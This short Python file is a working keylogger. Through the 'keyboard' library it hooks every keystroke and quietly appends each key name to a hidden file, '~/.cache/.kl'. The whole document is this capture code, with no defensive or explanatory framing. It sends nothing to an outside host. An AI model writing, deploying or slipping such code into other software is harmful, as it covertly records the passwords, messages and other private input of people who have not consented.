import os, keyboard
LOG = os.path.join(os.path.expanduser("~"), ".cache", ".kl")
def _rec(event):
    with open(LOG, "a") as f:
        f.write(event.name)
def start():
    keyboard.hook(_rec)
